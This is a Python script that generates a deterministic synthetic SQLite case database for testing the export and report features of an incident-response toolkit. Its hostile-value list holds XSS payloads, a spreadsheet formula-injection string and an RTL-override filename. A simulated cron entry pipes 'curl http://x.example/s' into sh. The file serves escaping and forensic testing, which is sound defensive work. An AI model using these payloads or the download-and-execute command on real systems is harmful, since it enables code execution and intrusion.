#!/usr/bin/env python3
"""mkcase.py DB [--events N] [--no-index] [--hostile]

Build a synthetic case database for the export and report tests from
analyzer/schema.sql (the contract) with plain INSERTs, independently of
irkit's own ingest.  Deterministic (fixed seed).  --hostile puts values
with commas, quotes, newlines, '|', '%', non-UTF-8 bytes and <script>
into every kind of string column.
"""
import os
import random
import sqlite3
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
SCHEMA = os.path.join(HERE, "..", "..", "analyzer", "schema.sql")

HOSTILE = [
    "<script>alert(1)</script>",
    'comma, "quoted" value',
    "line one\nline two\r\nline three",
    "pipe|in|name %41 percent",
    b"bad utf8 \xff\xfe end".decode("utf-8", "surrogateescape"),
    "tab\there & ampersand 'single' </td></tr>",
    "=cmd|' /C calc'!A0",
    "<script>document.title='pwned'</script><img src=x onerror=\"document.title='pwned'\">",
    "invoice\u202egnp.exe",
]

T0 = 1763762400 * 1000000  # 2025-11-21T22:00:00Z


def enc(s):
    """Text as SQLite TEXT; non-UTF-8 bytes stored raw (hostile)."""
    if isinstance(s, str):
        try:
            s.encode("utf-8")
            return s
        except UnicodeEncodeError:
            return s.encode("utf-8", "surrogateescape")
    return s


def main():
    args = sys.argv[1:]
    db = args[0]
    n = 1000
    index = "--no-index" not in args
    hostile = "--hostile" in args
    if "--events" in args:
        n = int(args[args.index("--events") + 1])
    rnd = random.Random(8)
    if os.path.exists(db):
        os.unlink(db)
    c = sqlite3.connect(db)
    c.text_factory = bytes
    c.executescript(open(SCHEMA).read())
    cur = c.cursor()
    hosts = ["web01", "db02"]
    for i, h in enumerate(hosts, 1):
        cur.execute("INSERT INTO hosts(id, hostname, machine_id, os, kernel,"
                    " arch, boot_time, timezone) VALUES (?,?,?,?,?,?,?,?)",
                    (i, h, "m%d" % i, "Debian GNU/Linux 12 (bookworm)",
                     "6.1.0-18-amd64", "x86_64", T0 - 86400 * 1000000, "UTC"))
        cur.execute("INSERT INTO evidence(id, path, sha256, size, kind, host_id,"
                    " case_id, examiner, collected_start, collected_end, tool,"
                    " verify, verify_detail, status, ingested_at) VALUES"
                    " (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)",
                    (i, "/cases/irkit-%s-20251121T220000Z.tar.zst" % h,
                     "%064x" % i, 123456 * i, "irkit", i, "IR-2025-042",
                     "j.doe", T0 + 3600 * 1000000, T0 + 3660 * 1000000,
                     "irkit-collect 0.1.0",
                     "intact" if i == 1 else "damaged",
                     "[]" if i == 1 else '["member records/processes.jsonl changed"]',
                     "complete" if i == 1 else "partial", T0 + 7200 * 1000000))
    # files: times in seconds+fraction, some unknown, some equal
    nfiles = 50
    for i in range(1, nfiles + 1):
        name = "/usr/bin/tool%d" % i
        if hostile and i <= len(HOSTILE):
            name = "/tmp/" + HOSTILE[i - 1]
        t = T0 + rnd.randint(0, 86400) * 1000000 + rnd.randint(0, 999999)
        at = t + rnd.choice([0, 5 * 1000000, 7 * 1000000])
        mt = t
        ct = t if i % 3 else t + 1000000
        bt = None if i % 4 == 0 else t - 60 * 1000000
        if i == 7:
            at = mt = ct = bt = None  # no times at all: mactime skips it
        cur.execute("INSERT INTO files(id, evidence_id, host_id, path, size,"
                    " sha256, md5, mode, uid, gid, inode, atime, mtime, ctime,"
                    " btime, deleted, origin, filetype, magic) VALUES"
                    " (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)",
                    (i, 1 + i % 2, 1 + i % 2, enc(name), 1000 + i, "%064x" % (i * 7),
                     "%032x" % (i * 7), "0755" if i % 2 else "0100644",
                     0, 0, 1000 + i, at, mt, ct, bt, 1 if i == 5 else 0,
                     "collected", "ELF", "ELF 64-bit LSB executable"))
    # processes, services, tasks, certs, keys
    for i in range(1, 21):
        argv = "/usr/sbin/sshd -D"
        name = "sshd"
        if i == 3:
            argv = HOSTILE[0] if hostile else "/dev/shm/.x/kworker -c 45.77.1.2"
            name = HOSTILE[0] if hostile else "kworker"
        cur.execute("INSERT INTO processes(id, evidence_id, host_id, pid, ppid,"
                    " name, exe, exe_deleted, cmdline, argv, user, uid,"
                    " start_time, hidden) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?)",
                    (i, 1, 1, 100 + i, 1, enc(name), "/usr/sbin/" + name,
                     1 if i == 3 else 0, enc(argv), "[]", "root", 0,
                     T0 + i * 60 * 1000000, 0))
    cur.execute("INSERT INTO services(id, evidence_id, host_id, name, kind,"
                " command, fragment_path, enabled, active) VALUES"
                " (1,1,1,?,?,?,?,1,1)",
                (enc(HOSTILE[1] if hostile else "dbus-update.service"),
                 "systemd", enc(HOSTILE[0] if hostile else "/usr/lib/dbus-update"),
                 "/etc/systemd/system/dbus-update.service"))
    cur.execute("INSERT INTO tasks(id, evidence_id, host_id, kind, schedule,"
                " user, command, source_path, line) VALUES"
                " (1,1,1,'cron','* * * * *','root',?,'/etc/crontab',12)",
                (enc(HOSTILE[2] if hostile else "curl -s http://x.example/s | sh"),))
    cur.execute("INSERT INTO certificates(id, evidence_id, host_id, path,"
                " subject, issuer, serial, not_before, not_after, sha256,"
                " self_signed, is_ca, in_trust_store) VALUES"
                " (1,1,1,'/etc/ssl/certs/x.pem',?,?, '0f',?,?,?,1,1,1)",
                (enc(HOSTILE[0] if hostile else "CN=Solarwinds Worldwide, LLC"),
                 "CN=Symantec Class 3", T0 - 86400000000 * 400,
                 T0 + 86400000000 * 400, "ab" * 32))
    cur.execute("INSERT INTO private_keys(id, evidence_id, host_id, path,"
                " format, key_type, bits, encrypted, mode) VALUES"
                " (1,1,1,'/root/.ssh/id_rsa','openssh','rsa',3072,0,'0644')")
    # yara and findings
    cur.execute("INSERT INTO yara_matches(id, file_id, sha256, rule, namespace,"
                " tags, meta, strings, score) VALUES (1,3,?,?,?,?,?,?,90)",
                ("%064x" % 21, "APT_Backdoor_SUNBURST", "solarwinds",
                 '["apt","sunburst"]',
                 '{"author":"irkit","description":%s,"reference":"https://example.org/sunburst"}'
                 % ('"<script>alert(2)</script>"' if hostile else '"SUNBURST backdoor"'),
                 '[{"id":"$a","offset":4096,"data":"%s"}]'
                 % ("<img src=x onerror=\\\"document.title='pwned'\\\">" if hostile else "avsvmcloud.com")))
    findings = [
        (95, "SUNBURST backdoor in /usr/bin/tool3", "yara",
         '["YARA rule APT_Backdoor_SUNBURST matched", "file is executable"]',
         T0 + 4 * 3600 * 1000000, [("files", 3), ("files", 5), ("yara_matches", 1)]),
        (80, HOSTILE[0] if hostile else "Process runs from a deleted executable",
         "process", '["exe_deleted", %s]' % ('"<b>bold</b>"' if hostile else '"runs from /dev/shm"'),
         T0 + 10 * 3600 * 1000000, [("processes", 3)]),
        (60, "Cron job pipes a download into sh", "task",
         '["curl | sh pattern"]', T0 + 15 * 3600 * 1000000, [("tasks", 1)]),
        (40, "Unexpected service dbus-update", "service", '["not shipped by a package"]',
         None, [("services", 1)]),
        (30, "Self-signed CA in the trust store", "certificate", '["self-signed", "CA"]',
         T0 + 3600 * 1000000, [("certificates", 1), ("private_keys", 1)]),
    ]
    for i, (score, title, cat, reasons, ts, links) in enumerate(findings, 1):
        cur.execute("INSERT INTO findings(id, evidence_id, host_id, score, title,"
                    " category, reasons, ts) VALUES (?,?,?,?,?,?,?,?)",
                    (i, 1, 1, score, enc(title), cat, reasons, ts))
        for t, rid in links:
            cur.execute("INSERT INTO finding_links VALUES (?,?,?)", (i, t, rid))
    # events
    sources = ["FILE", "PROCESS", "SERVICE", "TASK", "CERT"]
    descs = ["Content Modification Time", "Last Access Time", "Process Start",
             "Metadata Change Time", "Creation Time"]
    rows = []
    span = 86400 * 1000000
    for i in range(1, n + 1):
        ts = T0 + rnd.randint(0, span)
        src = sources[i % len(sources)]
        host = hosts[i % 2]
        msg = "event %d %s" % (i, src.lower())
        path = "/var/log/file%d" % (i % 97)
        if hostile and i <= len(HOSTILE):
            msg = HOSTILE[i - 1]
            path = "/tmp/" + HOSTILE[(i + 2) % len(HOSTILE)]
        rows.append((i, ts, descs[i % len(descs)], "M..." if i % 2 else ".A..",
                     src, host, enc(path), enc(msg), 1 + i % 2, "files", i % 50 + 1))
        if len(rows) >= 50000:
            cur.executemany("INSERT INTO events VALUES (?,?,?,?,?,?,?,?,?,?,?)", rows)
            rows = []
    if rows:
        cur.executemany("INSERT INTO events VALUES (?,?,?,?,?,?,?,?,?,?,?)", rows)
    if index:
        cur.execute("CREATE INDEX IF NOT EXISTS events_ts ON events(ts)")
        cur.execute("CREATE INDEX IF NOT EXISTS events_host ON events(host)")
    c.commit()
    c.close()


if __name__ == "__main__":
    main()
